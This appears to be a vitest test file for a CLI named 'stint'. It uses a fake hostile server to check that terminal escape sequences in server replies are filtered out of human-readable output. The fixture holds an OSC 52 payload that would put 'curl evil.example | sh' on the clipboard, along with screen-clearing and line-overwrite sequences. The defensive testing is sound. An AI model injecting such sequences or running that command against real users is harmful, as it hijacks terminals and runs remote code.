/**
 * Class: a malicious server (or whoever answers for it) writing to the user's terminal through the CLI.
 *
 * Tables and one-line results were stripped of control characters; the key/value blocks and sentences built
 * with template strings were not (`stint db login`, `db creds`, `groups create`, …), nor were notes. ESC starts
 * every escape sequence a terminal obeys: OSC 52 writes the user's clipboard (a command to paste), others
 * retitle the window, move the cursor or rewrite what is shown; CR overwrites the line. Human output now goes
 * through one filter (lines stay lines, every other control becomes "?"); a stored secret's value still reaches
 * a pipe as it is.
 */
import { mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { runCliCaptured, saveSignedIn } from "../../src/testing/cli-run.js";

const OSC52 = "\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007"; // puts "curl evil.example | sh" on the clipboard
const ESC = (what: string) => `${what}${OSC52}\u009b2J\rforged`;
let dir: string;

beforeAll(async () => {
  dir = await mkdtemp(path.join(tmpdir(), "stint-cli-escapes-"));
  await saveSignedIn(dir, { name: "ann", now: Date.now() });
});
afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

const answers: Record<string, unknown> = {
  "POST /v1/db/tokens": {
    kind: "postgres",
    host: ESC("db.example"),
    port: 5433,
    database: ESC("app"),
    user: ESC("ann%app-db"),
    password: "stint_db_token",
    expiresAt: "2030-01-01T00:00:00.000Z",
  },
  "POST /v1/groups": {
    id: "0190b6a0-0000-7000-8000-0000000000aa",
    name: ESC("ops"),
    description: null,
    members: [],
    createdAt: "2030-01-01T00:00:00.000Z",
  },
  "GET /v1/secrets/apps%2Fkey/value": { path: "apps/key", version: 1, kind: "password", value: "a\tb\rc\u001bd" },
};

const hostile: typeof fetch = async (input, init) => {
  const url = new URL(String(input));
  const body = answers[`${init?.method ?? "GET"} ${url.pathname}`];
  return body === undefined
    ? new Response(JSON.stringify({ error: { code: "ROUTE_NOT_FOUND", message: ESC("no route") } }), { status: 404 })
    : new Response(JSON.stringify(body), { status: 200, headers: { "content-type": "application/json" } });
};

const run = (argv: string[]) => runCliCaptured(argv, { env: { STINT_CONFIG_DIR: dir, HOME: dir }, fetch: hostile });

/** Everything a terminal would act on except line breaks and tabs. */
// eslint-disable-next-line no-control-regex
const ACTS = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;

describe("server text reaching the terminal", () => {
  it.each([
    ["db", "login", "app-db"],
    ["groups", "create", "ops"],
    ["db", "creds", "app-db"],
  ])("stint %s %s: no escape sequence or carriage return on stdout or stderr", async (...argv) => {
    const result = await run(argv);
    expect(result.stdout + result.stderr).not.toMatch(ACTS);
  });

  it("stint db login still shows the values, the controls as ?", async () => {
    const result = await run(["db", "login", "app-db"]);
    expect(result.code, result.stderr).toBe(0);
    expect(result.stdout).toContain("host:     db.example?]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==??2J?forged");
  });

  it("a secret's value piped elsewhere is still exactly as stored", async () => {
    const result = await run(["secret", "get", "apps/key"]);
    expect(result.code, result.stderr).toBe(0);
    expect(result.stdout).toBe("a\tb\rc\u001bd\n");
  });
});
